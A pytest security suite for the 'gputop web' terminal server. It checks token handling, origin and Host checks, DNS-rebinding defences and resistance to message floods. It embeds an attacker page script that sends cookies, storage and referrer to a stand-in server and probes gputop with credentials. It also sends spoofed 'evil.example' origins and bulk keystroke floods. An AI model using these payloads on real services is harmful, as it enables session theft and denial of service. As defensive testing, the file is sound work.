"""Pages, ports and names that reach for ``gputop web``, and browsers that send too much or take nothing."""

from __future__ import annotations

import os
import signal
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest

from gputop.web.guard import Guard, own_host
from tests.browser import visiting
from tests.waiting import wait_until
from tests.web_pages import (
    PATIENCE_S,
    RECORDING,
    asked,
    frame,
    screens,
    served,
    socket_headers,
    steering,
    token_of,
)

OWN = "127.3.4.5"
# what another user's page tries with what it got: all that a page can say of gputop's server and of itself
STEALING = """<!DOCTYPE html><title>stealing</title><script>
const said = what => fetch("/said", {method: "POST", body: what});
(async () => {
  await said("cookies " + document.cookie);
  await said("address " + location.href + " from " + document.referrer);
  await said("storage " + JSON.stringify({...sessionStorage}) + JSON.stringify({...localStorage}));
  for (const path of ["/", "/page.js", "/ws"])
    await fetch("GPUTOP" + path, {credentials: "include"})
      .then(async answer => said("read " + await answer.text()), error => said("refused " + path));
  const socket = new WebSocket("GPUTOP/ws".replace("http", "ws"), ["gputop", "x".repeat(43)]);
  socket.onopen = () => said("connected");
  socket.onerror = () => said("end");
})();
</script>"""


@contextmanager
def another_users_server(host: str, gputop: str) -> Iterator[tuple[str, list[str]]]:
    """At another port of the same address; what it gets, headers and all."""
    got: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            got.append(f"{self.path}\n{self.headers}")
            self._answer(STEALING.replace("GPUTOP", gputop).encode())

        def do_POST(self) -> None:
            got.append(self.rfile.read(int(self.headers["Content-Length"])).decode() + f"\n{self.headers}")
            self._answer(b"")

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *arguments: object) -> None:
            """Says nothing."""

    server = ThreadingHTTPServer((host, 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://{host}:{server.server_address[1]}", got
    finally:
        server.shutdown()
        server.server_close()


def test_another_port_of_the_same_address_gets_nothing_by_a_link() -> None:
    """A cookie of 127.0.0.1 went to all its ports, and another user's server had the screen by it."""
    with served(str(RECORDING)) as (server, address):
        host, token = urlsplit(address).hostname or "", token_of(address)
        assert len(token) > 40
        with another_users_server(host, address.partition("/#")[0]) as (theirs, got), visiting() as browser:
            page = browser.open(address)
            browser.wait_for(page, "WHY is the GPU idle?")
            page.evaluate("address => { location.href = address; }", theirs)
            wait_until(lambda: any(one.startswith("end") for one in got), "the end of what it tries")
            assert not any(token in one for one in got)
            assert not any("cookie:" in one.lower() for one in got)
            assert not any(one.startswith(("read", "connected")) for one in got)
            assert "from \n" in next(one for one in got if one.startswith("address"))
            page.go_back()
            browser.wait_for(page, "WHY is the GPU idle?")  # the tab keeps it: a page may be loaded again
            page.reload()
            browser.wait_for(page, "WHY is the GPU idle?")
        wait_until(lambda: not screens(server), "the end of each screen")


def test_without_the_token_a_page_says_what_to_open_and_holds_nothing() -> None:
    with served(str(RECORDING)) as (server, address), visiting() as browser:
        page = browser.open(address.partition("#")[0])
        page.wait_for_selector(".unknown", state="visible", timeout=1e3 * PATIENCE_S)
        assert page.evaluate("document.querySelector('canvas') === null")
        for path in ("/", "/page.js", "/static/js/textual.js", "/static/css/xterm.css"):
            status, text, headers = asked(address, path)
            assert status == 200
            assert token_of(address) not in text
            assert RECORDING.stem not in text
            assert "Set-Cookie" not in headers
            assert headers["Referrer-Policy"] == "no-referrer"
            assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
        for path in ("/download/x", "/static", "/static/js", "/static/../server.py", "/app_index.html"):
            assert asked(address, path)[0] in (403, 404)
        assert screens(server) == []


def test_nothing_is_steered_without_token_and_the_servers_own_page_and_name() -> None:
    with served(str(RECORDING)) as (server, address):
        token, port = token_of(address), urlsplit(address).port
        right = socket_headers(address, token)
        for origin in (
            "http://evil.example",
            f"http://evil.example:{port}",
            "null",
            f"http://127.9.9.9:{port}",
        ):
            status, text, _ = asked(address, "/ws", **socket_headers(address, token, origin))
            assert (status, text.strip()) == (403, "the request comes from another site")
        for told in (
            "",
            token,
            "gputop",
            "gputop,",
            f"gputop, {token}x",
            f"gputop, {token[:-1]}",
            f"{token}, gputop",
        ):
            assert asked(address, "/ws", **right | {"Sec-WebSocket-Protocol": told})[0] == 403
        for name in ("Origin", "Sec-WebSocket-Protocol"):
            assert (
                asked(address, "/ws", **{key: value for key, value in right.items() if key != name})[0] == 403
            )
        for path in (f"/ws?token={token}", f"/ws?{token}"):
            assert asked(address, path, **right | {"Sec-WebSocket-Protocol": "gputop"})[0] == 403
        assert (
            asked(address, "/ws", **right | {"Sec-WebSocket-Protocol": "gputop", "Cookie": token})[0] == 403
        )
        for path in ("/", "/ws", "/page.js"):  # DNS rebinding: the name is the attacker's
            for name in (
                f"evil.example:{port}",
                "",
                f"127.0.0.1:{1 + (port or 0) % 65535}",
                f"{OWN}.nip.io:{port}",
            ):
                assert asked(address, path, **right | {"Host": name})[0] == 403
        assert screens(server) == [], "none of them got a process"


def test_a_server_is_called_by_its_own_address_and_where_ssh_leads_to() -> None:
    guard = Guard(OWN, 8000)
    for name in (OWN, "127.0.0.1", "localhost", "[::1]"):
        told = {"Host": f"{name}:8000", "Origin": f"http://{name}:8000"}
        assert guard.refusal(told, socket=False) == ""
        assert guard.refusal({**told, "Sec-WebSocket-Protocol": f"gputop,{guard.token}"}, socket=True) == ""
    assert guard.refusal({"Host": "127.0.0.1:8000"}, socket=True)
    assert Guard("192.0.2.7", 8000).refusal({"Host": "127.0.0.1:8000"}, socket=False)
    assert Guard("gpu7.example", 8000).refusal({"Host": "gpu7.example:8000"}, socket=False) == ""


def test_each_run_has_an_address_of_its_own_but_where_the_browser_is_elsewhere() -> None:
    """What another user's server at 127.0.0.1 left in the browser is not between the page and gputop."""
    hosts = {own_host({}) for _ in range(20)}
    assert len(hosts) > 15
    for host in hosts:
        assert host.startswith("127.")
        with socket.create_server((host, 0)):
            pass
    assert own_host({"SSH_CONNECTION": "1"}) == own_host({"WSL_DISTRO_NAME": "Debian"}) == "127.0.0.1"


# -- too much, and nothing -----------------------------------------------------------------------------


def _send_keys(connection: socket.socket, megabytes: float) -> int:
    """Keys without end; how many bytes were taken before the server had enough."""
    keys = frame('["stdin", "' + "j" * 60_000 + '"]')
    sent = 0
    with suppress(OSError):
        connection.settimeout(PATIENCE_S)
        threading.Thread(target=_read_on, args=(connection,), daemon=True).start()
        while sent < megabytes * (1 << 20):
            connection.sendall(keys)
            sent += len(keys)
    return sent


def _read_on(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(1 << 16):
            pass


def test_megabytes_of_keys_are_not_taken_and_the_screen_ends_with_its_browser() -> None:
    """18 MB kept a core busy and took 1.2 GB after the browser had gone."""
    with served(str(RECORDING)) as (server, address):
        with steering(address) as connection:
            wait_until(lambda: screens(server), "a screen")
            assert _send_keys(connection, 18) < 12 << 20  # what sockets hold
        begun = time.monotonic()
        wait_until(lambda: not screens(server), "the screen's end")
        assert time.monotonic() - begun < 30


def test_many_short_messages_count_as_more_than_their_bytes() -> None:
    with served(str(RECORDING)) as (server, address):
        with steering(address) as connection:
            threading.Thread(target=_read_on, args=(connection,), daemon=True).start()
            short, sent = frame('["resize",{"width":80,"height":24}]') * 100, 0
            with suppress(OSError):
                while sent < 18 << 20:
                    connection.sendall(short)
                    sent += len(short)
            assert sent < 12 << 20
        wait_until(lambda: not screens(server), "the screen's end")


@pytest.mark.parametrize("typed", [True, False])
def test_a_screen_that_hangs_ends_with_its_browser(typed: bool) -> None:
    with served(str(RECORDING)) as (server, address):
        with steering(address) as connection:
            wait_until(lambda: screens(server), "a screen")
            (pid,) = screens(server)
            os.kill(pid, signal.SIGSTOP)
            if typed:
                connection.sendall(frame('["stdin", "' + "j" * 60_000 + '"]') * 2)
        begun = time.monotonic()
        wait_until(lambda: not screens(server), "the screen's end")
        assert time.monotonic() - begun < 60


@pytest.mark.long
def test_a_browser_that_reads_nothing_leaves_a_shared_screen_to_the_others() -> None:
    with served() as (server, address), steering(address), visiting() as browser:
        wait_until(lambda: screens(server), "a screen")
        for _ in range(2):
            page = browser.open(address)
            browser.wait_for(page, "palette")
